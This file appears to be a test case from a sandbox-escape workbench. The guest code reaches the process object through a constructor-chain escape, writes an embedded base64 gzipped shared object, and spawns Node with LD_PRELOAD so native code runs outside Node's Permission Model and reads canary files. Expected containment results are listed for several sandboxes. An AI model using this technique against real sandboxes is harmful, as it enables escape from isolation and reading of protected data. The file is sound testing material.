/*---
id: cp-ld-preload
title: LD_PRELOAD in a spawned child's environment runs native code before its main
category: child-process
goal: Run native code outside every Node policy — in a child the guest starts — and read canary.txt and the environment canary with it.
technique: The guest writes a small shared object into its jail and spawns a program (Node itself, whose Permission Model flags Node passes on) with env LD_PRELOAD=<jail>/preload.so; the dynamic loader runs the object's constructor before main, as plain native code that no Permission Model check sees. The object (x86-64 Linux, raw syscalls, source below) prints ../canary.txt and WORKBENCH_CANARY from its environment to stderr.
references: https://man7.org/linux/man-pages/man8/ld.so.8.html, https://nodejs.org/api/permissions.html#process-based-permissions, https://attack.mitre.org/techniques/T1574/006/
limits: timeout=8000
expect: * = escaped; *+isolated-vm = contained; *+quickjs = contained
expect-hardened: * = contained; host = escaped; host+vm = escaped; worker = escaped; worker+vm = escaped
---*/
// preload.so, built with: gcc -shared -fPIC -Os -nostdlib -s -Wl,--build-id=none -Wl,-z,norelro
//   -Wl,--hash-style=gnu -Wl,-z,noseparate-code -o preload.so preload.c ; gzip -9 -n | base64 -w0
// /* LD_PRELOAD payload: at load, before main, copy ../canary.txt (relative to the cwd) and $WORKBENCH_CANARY to stderr. Raw syscalls, no libc. */
// static long sys3(long n, long a, long b, long c) { long r; __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory"); return r; }
// static void say(const char *s) { long n = 0; while (s[n]) n++; sys3(1, 2, (long)s, n); }
// __attribute__((constructor)) static void run(int argc, char **argv, char **envp) {
//   char buf[256];
//   say("[preload] native code in the child, outside any Node policy\n[preload] canary.txt: ");
//   long fd = sys3(2, (long)"../canary.txt", 0, 0);
//   if (fd < 0) fd = sys3(2, (long)"canary.txt", 0, 0);
//   if (fd >= 0) { long n = sys3(0, fd, (long)buf, sizeof buf - 1); if (n > 0) sys3(1, 2, (long)buf, n); sys3(3, fd, 0, 0); } else say("(not readable)\n");
//   for (char **e = envp; e && *e; e++) { const char *v = *e, *k = "WORKBENCH_CANARY="; int i = 0; while (k[i] && v[i] == k[i]) i++; if (!k[i]) { say("[preload] env: "); say(v); say("\n"); } }
// }
const P =
  typeof process !== 'undefined'
    ? process
    : (() => {
        try {
          return this.constructor.constructor('return process')();
        } catch {
          return undefined;
        }
      })();
const PRELOAD_GZ_BASE64 =
  'H4sIAAAAAAACA61WX2gcRRif3cv1zrTuHfSCV9PgKo22Vre5WKGmxmaT/lljiGlsMRLLsbld3cW73bA3qTnBPzGmsJqA4Esf+uBj8alvTYvgYQTji0hEXwptBf9Eo/TJgohdv9mbyd0Od7YFP9j9zffN9/u+2ZlvZvbtIyNHRUFATGLoGVTXEBqgaG1ptB1AcXinUSr0jaPWMtIWRSCFQngk5Bi1j2WiaAlRZDyR8iYobyITxQEhiklKH/sJG4RyLlbTedyFosiGexx4W9CdCx1m+H3suRsRGmJEpIy9oulszg/7ri6xhhc6apjgcgZPXt4O7+5P4Z16YABaRLdI16/XgyB4QfP/Xv8FGp+RQJp/VfM/XyYBUvHJFfWEttT/Aygnwe1bbe53Enr9K/BWLxH33Br0Z8A24q9q/vep+LN+VVuoVjJgRjUzs80OaP7PuerlgNSC/2UqDnnA/Na2MFmYPBXPrS3Hav1htJGl7u/IoBauzHRvHIeYF0FbH4b0Gz+q72fa3lvDO7Sg2nciHuAb2vxKUvtgr7bwB344V924Bu6fEPdOcNf8G+vbCS71v0tsCRLia23uCzLIyVPqyyuT055ZdHXjlOzo2D5tygXXMGXbkbEFbcsuGo/J7gwu22DVnYo8Srqn3aJdqLTXuQXd0b2Kgmdxn4wUZV9dR7sdF8ueqRv6VNHc045efH78ucEjo0NafkgdVcdf6kf1MKZzGviwjp2xg3K4JxE6fCsIFgENwKcB5wAnADOsbt4YR8JsWujclkh+CF+VBdtOeGTw6yIOqpSeFyclUjc98ByA50Ho+430DUrpRVGTsmdiqiTPtw1LH4viN5KsSllgDYYcMo4iqbN/goC0kZQ+KmWHU1tfT76DDt1/8NEndj3UWI87UHQ/d6Jo3f55K3DDfUuLlZ0h56nO9tws1ds5/laK2c1zqyZnO+rnRGM/m6cExfsorgpR+wXu3GD8ezj9r6A2/rvd33cq7Dzj5SZNeGxoqE/efdicsnVHzvUqvUrP47n9ew1zKtc7k9tDTQgpZQtODqxPIeVVZ0ax9LKFFKPilCulGmIPKVB4OlFoa7qIkYJNqFrFcw0d60gxrfwrnl4y85bh1TWk2I6N87rn6ZUwml6yC5DIxbUYBbdUMh38f8wHWe+bMOdsXVndMNyJouue5PgdNIbI1RXDnoY6EpqsfxftE7k6PS80z8fXRTe9U0SuzhhmW4yf2fdR/iBXt6tN+Pc24e9vuHOJXBeiKLe4xxg+xfE3B0oxIfz39x+itl62D2NR/KjF/DE8Rtssbav7G3H3N5OTHL8ai+Ii58+vZ54ceQ3nzOb/Sltz/ySHr9G5i3H7m/3HsP+VGMdj84/p+Plz7my8+frx+d+k/B7Ob5nyH7nN/DfmbpRrlH/mNvX/L9q8gXxoCgAA';
function probe() {
  if (P.platform !== 'linux' || P.arch !== 'x64')
    return `LD_PRELOAD payload is x86-64 Linux only (this is ${P.platform} ${P.arch})`;
  const cp = P.getBuiltinModule('node:child_process');
  const fs = P.getBuiltinModule('node:fs');
  const zlib = P.getBuiltinModule('node:zlib');
  const jail = P.cwd().endsWith('/jail') ? P.cwd() : `${P.cwd()}/jail`;
  const so = `${jail}/preload.so`;
  fs.writeFileSync(so, zlib.gunzipSync(P.getBuiltinModule('node:buffer').Buffer.from(PRELOAD_GZ_BASE64, 'base64')), {
    mode: 0o755,
  });
  // The child runs in the jail, so the object's ../canary.txt is the run directory's.
  const main =
    "let f; try { f = require('fs').readFileSync('../canary.txt', 'utf8').trim(); } catch (e) { f = e.code; } console.log('node in the child: canary.txt=' + f);";
  let out;
  try {
    const r = cp.spawnSync(P.execPath, ['-e', main], {
      cwd: jail,
      encoding: 'utf8',
      env: { ...P.env, LD_PRELOAD: so },
      timeout: 3000,
    });
    out =
      `${r.stderr || ''}${r.stdout || ''}`
        .replace(/\(node:\d+\) \[PERM0002\][^\n]*\n[^\n]*\n?/g, '')
        .trim()
        .slice(0, 600) || (r.error ? r.error.code : `exit ${r.status}`);
  } catch (e) {
    out = `${e.code || e.name}: ${e.message}`.slice(0, 160);
  }
  console.log(out);
  return out;
}
P ? probe() : 'no process object';
